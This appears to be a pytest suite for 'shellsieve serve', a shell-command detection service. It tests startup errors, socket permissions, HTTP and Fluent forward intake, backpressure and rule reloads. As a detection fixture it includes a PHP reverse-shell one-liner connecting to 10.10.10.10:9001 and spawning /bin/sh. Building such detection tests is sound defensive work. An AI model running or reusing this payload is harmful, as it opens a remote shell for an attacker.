"""`shellsieve serve` as a user starts it: options refused at start naming the option, a port in use
reported, the unix socket's mode, the HTTP limits, gzip bodies, and Fluent forward acks from a real
fluent-logger client. Each test runs the real command in a child process."""

from __future__ import annotations

import asyncio
import gzip
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import msgspec
from aiohttp import ClientSession, web
from fluent import sender

from shellsieve.noise import process_event

CLI = str(Path(sys.executable).parent / "shellsieve")
PHP = ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']


def _ports(n: int) -> list[int]:
    socks = [socket.socket() for _ in range(n)]
    for s in socks:
        s.bind(("127.0.0.1", 0))
    ports = [s.getsockname()[1] for s in socks]
    for s in socks:
        s.close()
    return ports


def _event(i: int, args: list[str] | None = None) -> dict[str, Any]:
    args = args or ["ls", str(i)]
    return process_event(i, args[0], args, ("bash", "/usr/bin/bash"), ("root", "0"), "/tmp")


class Serve:
    def __init__(self, proc: subprocess.Popen[bytes]) -> None:
        self.proc = proc
        self.logs: list[dict[str, Any]] = []
        self.out = b""  # what serve wrote to stdout (--forward stdout), once stopped

    def stop(self) -> int:
        self.proc.send_signal(signal.SIGTERM)
        self.out, err = self.proc.communicate(timeout=30)
        self.logs += [json.loads(x) for x in err.splitlines() if x.startswith(b"{")]
        return self.proc.returncode

    def event(self, name: str) -> dict[str, Any]:
        return next(x for x in self.logs if x.get("event") == name)

    def wait_log(self, name: str) -> dict[str, Any]:
        """Read stderr until serve logs `name` (while it runs)."""
        assert self.proc.stderr is not None
        while True:
            line = self.proc.stderr.readline()
            assert line, f"serve exited {self.proc.wait()} before logging {name}"
            self.logs.append(json.loads(line))
            if self.logs[-1]["event"] == name:
                return self.logs[-1]


@contextmanager
def serve(*args: str) -> Iterator[Serve]:
    """The real `shellsieve serve`, once it logs `listening`; stopped with SIGTERM after the block."""
    proc = subprocess.Popen([CLI, "serve", "--stats-interval", "0", *args], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    s = Serve(proc)
    assert proc.stderr is not None
    while True:
        line = proc.stderr.readline()
        assert line, f"serve exited {proc.wait()} before listening"
        s.logs.append(json.loads(line))
        if s.logs[-1]["event"] == "listening":
            break
    try:
        yield s
    finally:
        if proc.poll() is None:
            s.stop()


class Downstream:
    """An HTTP server answering 200 as Vector's http_server source does, keeping every line."""

    def __init__(self) -> None:
        self.lines: list[bytes] = []

    async def start(self, port: int) -> web.AppRunner:
        async def post(request: web.Request) -> web.Response:
            self.lines += (await request.read()).splitlines()
            return web.Response(status=200)

        app = web.Application(client_max_size=1 << 30)
        app.router.add_post("/{tail:.*}", post)
        runner = web.AppRunner(app)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", port).start()
        return runner


class TestStart:
    def test_a_bad_listen_address_is_refused_naming_the_option(self) -> None:
        """`--listen ftp://x` exits 2 with a message naming --listen and the schemes it takes."""
        r = subprocess.run([CLI, "serve", "--listen", "ftp://x:1"], capture_output=True, text=True)
        assert r.returncode == 2
        assert "--listen" in r.stderr and "http://" in r.stderr

    def test_an_unknown_listener_option_is_refused(self) -> None:
        """A misspelt per-listener option is an error at start, not ignored."""
        r = subprocess.run([CLI, "serve", "--listen", "tcp://127.0.0.1:1?hostos=linux"], capture_output=True, text=True)
        assert r.returncode == 2 and "unknown option 'hostos'" in r.stderr

    def test_a_bad_buffer_size_is_refused(self) -> None:
        """--buffer-events 0 exits 2 naming the option and its range."""
        r = subprocess.run([CLI, "serve", "--listen", "tcp://127.0.0.1:1", "--buffer-events", "0"],
                           capture_output=True, text=True)
        assert r.returncode == 2 and "--buffer-events" in r.stderr and ">= 1" in r.stderr

    def test_a_port_in_use_is_an_error_at_start(self) -> None:
        """serve exits 1 and logs which address it could not listen on."""
        with socket.socket() as busy:
            busy.bind(("127.0.0.1", 0))
            busy.listen()
            port = busy.getsockname()[1]
            r = subprocess.run([CLI, "serve", "--listen", f"tcp://127.0.0.1:{port}"], capture_output=True, timeout=60)
        assert r.returncode == 1
        failed = [json.loads(x) for x in r.stderr.splitlines() if b"startup_failed" in x]
        assert failed and failed[0]["listen"] == f"tcp://127.0.0.1:{port}"


class TestUnix:
    def test_the_socket_is_created_0600_and_removed_at_stop(self, tmp_path: Path) -> None:
        """Only the shipper's user may connect; no stale socket is left behind."""
        path = tmp_path / "s.sock"
        with serve("--listen", f"unix://{path}") as s:
            mode = stat.S_IMODE(path.stat().st_mode)
            with socket.socket(socket.AF_UNIX) as c:
                c.connect(str(path))
                c.sendall(b"whoami\n")
            time.sleep(0.3)
            assert s.stop() == 0
        assert mode == 0o600
        assert not path.exists()
        assert s.proc.stdout is not None


class TestHttp:
    def test_health_answers_head_and_get(self) -> None:
        """Vector's http sink healthcheck sends HEAD to its URI at start and wants 200; GET says more."""
        (lport,) = _ports(1)

        async def scenario() -> tuple[int, int, Any]:
            async with ClientSession() as c:
                async with c.head(f"http://127.0.0.1:{lport}/") as r1:
                    s1 = r1.status
                async with c.get(f"http://127.0.0.1:{lport}/health") as r2:
                    return s1, r2.status, await r2.json()

        with serve("--listen", f"http://127.0.0.1:{lport}") as s:
            head, get, body = asyncio.run(scenario())
            assert s.stop() == 0
        assert (head, get) == (200, 200)
        assert body == {"status": "ok", "downstream": "up"}

    def test_gzip_bodies_and_the_body_limit(self) -> None:
        """A gzip body (Vector's compression = "gzip") is read; a body over --max-body-bytes gets 413,
        and the server goes on taking the next request."""
        lport, fport = _ports(2)
        down = Downstream()

        async def scenario() -> tuple[int, int, int]:
            runner = await down.start(fport)
            try:
                async with ClientSession() as c:
                    body = b"".join(msgspec.json.encode(_event(i)) + b"\n" for i in range(3))
                    async with c.post(f"http://127.0.0.1:{lport}/", data=gzip.compress(body),
                                      headers={"Content-Encoding": "gzip"}) as r1:
                        s1 = r1.status
                    async with c.post(f"http://127.0.0.1:{lport}/", data=b"x" * 5000) as r2:
                        s2 = r2.status
                    async with c.post(f"http://127.0.0.1:{lport}/", data=b"whoami\n") as r3:
                        s3 = r3.status
                return s1, s2, s3
            finally:
                await runner.cleanup()

        with serve("--listen", f"http://127.0.0.1:{lport}", "--forward", f"http://127.0.0.1:{fport}/",
                   "--max-body-bytes", "4096") as s:
            statuses = asyncio.run(scenario())
            assert s.stop() == 0
        assert statuses == (200, 413, 200)
        assert [json.loads(x)["event"]["id"] for x in down.lines[:3]] == [_event(i)["event"]["id"] for i in range(3)]
        assert json.loads(down.lines[3]) == {"message": "whoami"}
        listener = s.event("stopped")["listeners"][f"http://127.0.0.1:{lport}"]
        assert listener["events_in"] == listener["events_delivered"] == 4
        assert listener["requests_refused"]["too_large"] == 1 and sum(listener["requests_refused"].values()) == 1

    def test_503_while_the_downstream_is_down_then_200(self) -> None:
        """With no downstream, a request waits; the next ones are told 503 + Retry-After; once the
        downstream is up, the waiting request is answered 200 and its events are there once."""
        lport, fport = _ports(2)
        down = Downstream()

        async def scenario() -> tuple[int, int, str | None]:
            async with ClientSession() as c:
                first = asyncio.create_task(c.post(f"http://127.0.0.1:{lport}/", data=b"whoami\n"))
                await asyncio.sleep(1.0)  # serve has tried and failed at least once
                async with c.post(f"http://127.0.0.1:{lport}/", data=b"id\n") as r2:
                    s2, retry_after = r2.status, r2.headers.get("Retry-After")
                runner = await down.start(fport)
                try:
                    r1 = await first
                    s1 = r1.status
                    r1.release()
                finally:
                    await runner.cleanup()
            return s1, s2, retry_after

        with serve("--listen", f"http://127.0.0.1:{lport}", "--forward", f"http://127.0.0.1:{fport}/",
                   "--retry-max", "0.2") as s:
            s1, s2, retry_after = asyncio.run(scenario())
            assert s.stop() == 0
        assert (s1, s2, retry_after) == (200, 503, "1")
        assert s.event("stopped")["listeners"][f"http://127.0.0.1:{lport}"]["requests_refused"]["downstream_down"] == 1
        assert down.lines == [b'{"message":"whoami"}']
        names = [x["event"] for x in s.logs]
        assert names.count("downstream_down") == 1 and names.count("downstream_up") == 1


class TestForward:
    def test_fluent_logger_records_are_acked_after_delivery_and_alerted(self) -> None:
        """A real fluent-logger client (Message mode) gets its records through; a reverse shell in
        one is alerted; with the tcp output the records leave as NDJSON lines, in order."""
        lport, fport = _ports(2)
        got: list[bytes] = []
        sink = socket.create_server(("127.0.0.1", fport))

        def drain() -> None:
            conn, _ = sink.accept()
            buf = b""
            with conn:
                while chunk := conn.recv(1 << 16):
                    buf += chunk
            got.extend(buf.splitlines())

        import threading

        t = threading.Thread(target=drain, daemon=True)
        t.start()
        with serve("--listen", f"forward://127.0.0.1:{lport}", "--forward", f"tcp://127.0.0.1:{fport}") as s:
            log = sender.FluentSender("app", host="127.0.0.1", port=lport, nanosecond_precision=True)
            for i in range(5):
                assert log.emit("proc", _event(i, PHP if i == 3 else None)), log.last_error
            log.close()
            time.sleep(0.5)
            assert s.stop() == 0
        t.join(5)
        sink.close()
        docs = [json.loads(x) for x in got]
        assert [d["event"]["id"] for d in docs] == [_event(i)["event"]["id"] for i in range(5)]
        assert [d["event"]["kind"] for d in docs] == ["event", "event", "event", "alert", "event"]

    def test_chunks_wait_for_their_ack(self) -> None:
        """A Forward-mode message with a chunk option is answered {"ack": chunk} once delivered."""
        import msgpack  # fluent-logger's dependency, a test-only client here

        lport, fport = _ports(2)
        down = Downstream()

        async def scenario() -> Any:
            runner = await down.start(fport)
            try:
                reader, writer = await asyncio.open_connection("127.0.0.1", lport)
                entries = [[int(time.time()), _event(i)] for i in range(3)]
                writer.write(msgpack.packb(["app", entries, {"chunk": "c-1", "size": 3}]))
                await writer.drain()
                reply = await asyncio.wait_for(reader.read(512), 10)
                writer.close()
                await writer.wait_closed()
                return msgpack.unpackb(reply), len(down.lines)
            finally:
                await runner.cleanup()

        with serve("--listen", f"forward://127.0.0.1:{lport}", "--forward", f"http://127.0.0.1:{fport}/") as s:
            reply, delivered_before_ack = asyncio.run(scenario())
            assert s.stop() == 0
        assert reply == {"ack": "c-1"}
        assert delivered_before_ack == 3

    def test_garbage_closes_only_that_connection(self) -> None:
        """Bytes that are not the protocol close that connection with a warning; another goes on."""
        lport, fport = _ports(2)
        down = Downstream()

        async def scenario() -> Any:
            import msgpack

            runner = await down.start(fport)
            try:
                r1, w1 = await asyncio.open_connection("127.0.0.1", lport)
                w1.write(b"GET / HTTP/1.1\r\n\r\n")
                await w1.drain()
                closed = await asyncio.wait_for(r1.read(), 10) == b""
                w1.close()
                await w1.wait_closed()
                r2, w2 = await asyncio.open_connection("127.0.0.1", lport)
                w2.write(msgpack.packb(["app", [[int(time.time()), {"message": "whoami"}]], {"chunk": "c"}]))
                await w2.drain()
                reply = msgpack.unpackb(await asyncio.wait_for(r2.read(512), 10))
                w2.close()
                await w2.wait_closed()
                return closed, reply
            finally:
                await runner.cleanup()

        with serve("--listen", f"forward://127.0.0.1:{lport}", "--forward", f"http://127.0.0.1:{fport}/") as s:
            closed, reply = asyncio.run(scenario())
            assert s.stop() == 0
        assert closed and reply == {"ack": "c"}
        assert any(x["event"] == "forward_protocol_error" for x in s.logs)
        assert os.environ.get("SHELLSIEVE_CACHE_DIR")  # the conftest's temporary cache, not ~/.cache


class TestPerListener:
    def test_host_os_and_envelope_fields_are_per_listener(self) -> None:
        """One listener's ?host_os=macos&envelope=payload applies to its events only: the same
        command line alerts as linux on the other listener, and `payload` opens envelopes only there."""
        a, b, fport = _ports(3)
        got: list[bytes] = []
        sink = socket.create_server(("127.0.0.1", fport))

        def drain() -> None:
            conn, _ = sink.accept()
            with conn:
                buf = b""
                while chunk := conn.recv(1 << 16):
                    buf += chunk
            got.extend(buf.splitlines())

        import threading

        t = threading.Thread(target=drain, daemon=True)
        t.start()
        shell = "php -r '$s=fsockopen(\"10.10.10.10\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"
        wrapped = json.dumps({"payload": shell, "src": "x"})
        with serve("--listen", f"tcp://127.0.0.1:{a}", "--listen", f"tcp://127.0.0.1:{b}?host_os=macos&envelope=payload",
                   "--forward", f"tcp://127.0.0.1:{fport}") as s:
            for port in (a, b):
                with socket.create_connection(("127.0.0.1", port)) as c:
                    c.sendall(f"{shell}\n{wrapped}\n".encode())
                time.sleep(0.3)  # one listener's lines before the other's, so the output order is known
            assert s.stop() == 0
        t.join(5)
        sink.close()
        docs = [json.loads(x) for x in got]
        assert [d.get("event", {}).get("kind") for d in docs] == ["alert", None, "alert", "alert"]
        assert docs[0]["host"]["os"]["type"] == "linux"
        assert docs[1] == json.loads(wrapped)  # `payload` is no envelope field on the first listener
        assert docs[2]["host"]["os"]["type"] == "macos"
        assert docs[3]["src"] == "x" and docs[3]["host"]["os"]["type"] == "macos"


class TestBackpressure:
    def test_a_full_buffer_pauses_reading_and_loses_nothing(self) -> None:
        """With the downstream down and --buffer-events 10, a TCP sender's reads are held back (counted
        as reads_paused), and once the downstream is up every event arrives, in order."""
        lport, fport = _ports(2)
        lines = [msgspec.json.encode(_event(i)) + b"\n" for i in range(200)]
        got: list[bytes] = []

        def send() -> None:
            with socket.create_connection(("127.0.0.1", lport)) as c:
                for line in lines:  # one event per write: many reads, each checked against the room
                    c.sendall(line)
                    time.sleep(0.001)

        import threading

        with serve("--listen", f"tcp://127.0.0.1:{lport}", "--forward", f"tcp://127.0.0.1:{fport}",
                   "--buffer-events", "10", "--retry-max", "0.2") as s:
            sender = threading.Thread(target=send)
            sender.start()
            time.sleep(1.0)  # the downstream is down: the buffer fills, reads pause
            with socket.create_server(("127.0.0.1", fport)) as sink:
                conn, _ = sink.accept()
                with conn:
                    conn.settimeout(10)
                    buf = b""
                    while buf.count(b"\n") < len(lines):
                        buf += conn.recv(1 << 16)
                    got = buf.splitlines(keepends=True)
            sender.join(10)
            assert s.stop() == 0
        assert got == lines
        listener = s.event("stopped")["listeners"][f"tcp://127.0.0.1:{lport}"]
        assert listener["reads_paused"] >= 1 and listener["events_delivered"] == len(lines)


class TestReload:
    def test_sighup_swaps_the_rules_between_requests(self, tmp_path: Path) -> None:
        """serve reloads on SIGHUP: the request before alerts with the old rule, the ones after with
        the new one; /metrics counts the reload."""
        import shutil

        from conftest import PATTERNS, rule_ids
        from test_reload_swap import EXTRA, EXTRA_ID

        rules = tmp_path / "rules"
        shutil.copytree(PATTERNS, rules, ignore=shutil.ignore_patterns("__init__.py", "__pycache__"))
        (rules / "sigma" / "extra.yml").write_text(EXTRA.format(n=1, token="zz-old"))
        lport, mport = _ports(2)

        async def post(*cmds: str) -> int:
            body = b"".join(msgspec.json.encode(_event(i, ["echo", c])) + b"\n" for i, c in enumerate(cmds))
            async with ClientSession() as c:
                async with c.post(f"http://127.0.0.1:{lport}/", data=body) as r:
                    return r.status

        async def scrape() -> str:
            async with ClientSession() as c:
                async with c.get(f"http://127.0.0.1:{mport}/metrics") as r:
                    return await r.text()

        with serve("--listen", f"http://127.0.0.1:{lport}", "--rules", str(rules),
                   "--metrics-addr", f"127.0.0.1:{mport}") as s:
            assert asyncio.run(post("zz-old")) == 200
            (rules / "sigma" / "extra.yml").write_text(EXTRA.format(n=1, token="zz-new"))
            s.proc.send_signal(signal.SIGHUP)
            done = s.wait_log("reloaded")
            assert done["changed"] == 1 and done["trigger"] == "sighup"
            assert asyncio.run(post("zz-new", "zz-old")) == 200
            metrics = asyncio.run(scrape())
            assert s.stop() == 0
        assert 'shellsieve_reloads_total{result="ok"} 1.0' in metrics
        assert 'shellsieve_reloads_total{result="failed"} 0.0' in metrics
        out = [msgspec.json.decode(x) for x in s.out.splitlines()]
        assert [rule_ids(d) for d in out] == [[EXTRA_ID], [EXTRA_ID], []]
        assert s.event("stopped")["reloads"] == {"ok": 1, "failed": 0}
